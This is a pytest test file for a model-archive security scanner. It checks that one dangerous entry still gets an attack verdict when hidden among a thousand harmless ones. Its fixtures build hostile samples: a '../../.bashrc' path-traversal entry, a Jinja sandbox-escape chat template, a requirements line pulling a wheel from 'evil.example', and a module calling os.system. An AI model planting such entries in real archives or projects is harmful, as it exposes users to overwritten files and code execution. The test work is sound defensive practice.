"""Harmless faults in numbers hide no grave one: a flooded archive keeps the verdict that it had without."""

from __future__ import annotations

import io
import json
import pickle
import stat
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest

from scanner.archives.contents import SOURCE_BYTES
from scanner.checks import pickle_runs_code
from scanner.checks.archive_unsafe import CHECK
from scanner.file_check import FileCheck, FileVerdict
from tests.assets import archive_cases as cases
from tests.assets.make_file_assets import write_all
from tests.scanner.check_runs import findings_of

_ESCAPE: Final = "{{ ().__class__.__base__.__subclasses__() }}"
_AUTO_MAP: Final = json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}, "model_type": "x"}).encode()
_MANIFEST: Final = json.dumps(
    {"model": {"modelName": "a", "handler": "image_classifier", "requirementsFile": "requirements.txt"}}
).encode()


def _links_in_tar(count: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for index in range(count):
            link = tarfile.TarInfo(f"link{index}")
            link.type, link.linkname = tarfile.SYMTYPE, "a.txt"
            archive.addfile(link)
        archive.addfile(tarfile.TarInfo("../../.bashrc"))
    return buffer.getvalue()


def _links_in_zip(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(count):
            link = zipfile.ZipInfo(f"link{index:03}")
            link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, "a.txt")
        archive.writestr("zfile.txt", b"text")
    return buffer.getvalue().replace(b"zfile.txt", b"yfile.txt", 1)


def _odd_names(count: int) -> bytes:
    return cases.zipped([*((f"a{index}//b", b"") for index in range(count)), ("../../.bashrc", b"")])


def _configs_in_zip(count: int) -> bytes:
    template = json.dumps({"chat_template": _ESCAPE}).encode()
    configs = [(f"a{index:03}/config.json", _AUTO_MAP) for index in range(count)]
    return cases.zipped([*configs, ("z/tokenizer_config.json", template)])


def _requirements(count: int) -> bytes:
    lines = b"numpy\n" * count + b"evil @ http://evil.example/x.whl\n"
    return cases.zipped([("MAR-INF/MANIFEST.json", _MANIFEST), ("requirements.txt", lines)])


def _package_of_modules(count: int) -> bytes:
    fixed = [
        ("m/.data/version", b"6"),
        ("m/.data/extern_modules", b"torch\n"),
        ("m/version", b"6"),
        ("m/data.pkl", pickle.dumps({}, 2)),
    ]
    modules = [(f"m/a{index:03}.py", b"x = 1\n") for index in range(count)]
    return cases.zipped([*fixed, *modules, ("m/zz.py", b"import os\nos.system('true')\n")])


_FLOODS: Final[dict[str, tuple[str, FileCheck, Callable[[int], bytes]]]] = {
    "links-in-tar": ("a.tar", CHECK, _links_in_tar),
    "links-in-zip": ("a.zip", CHECK, _links_in_zip),
    "odd-names": ("a.zip", CHECK, _odd_names),
    "configs": ("a.zip", CHECK, _configs_in_zip),
    "requirements": ("a.mar", CHECK, _requirements),
    "modules": ("a.pt", pickle_runs_code.CHECK, _package_of_modules),
}


@pytest.mark.parametrize("flood", _FLOODS)
def test_harmless_faults_in_numbers_hide_no_grave_one(flood: str, tmp_path: Path) -> None:
    name, check, make = _FLOODS[flood]
    assert _worst(check, name, make(0), tmp_path / "alone") is FileVerdict.ATTACK
    assert _worst(check, name, make(1000), tmp_path / "flooded") is FileVerdict.ATTACK


def _worst(check: FileCheck, name: str, data: bytes, folder: Path) -> FileVerdict:
    findings = findings_of(check, write_all(folder, {name: data}))
    return max((check.verdict_of(finding) for finding in findings), key=lambda verdict: verdict.rank)


def test_list_of_requirements_too_long_to_be_read_is_told(tmp_path: Path) -> None:
    folder = write_all(tmp_path / "m", {"a.mar": _requirements(SOURCE_BYTES // 6)})
    (unread,) = (finding for finding in findings_of(CHECK, folder) if finding.rule == "unreadable")
    assert "requirements.txt" in unread.reason
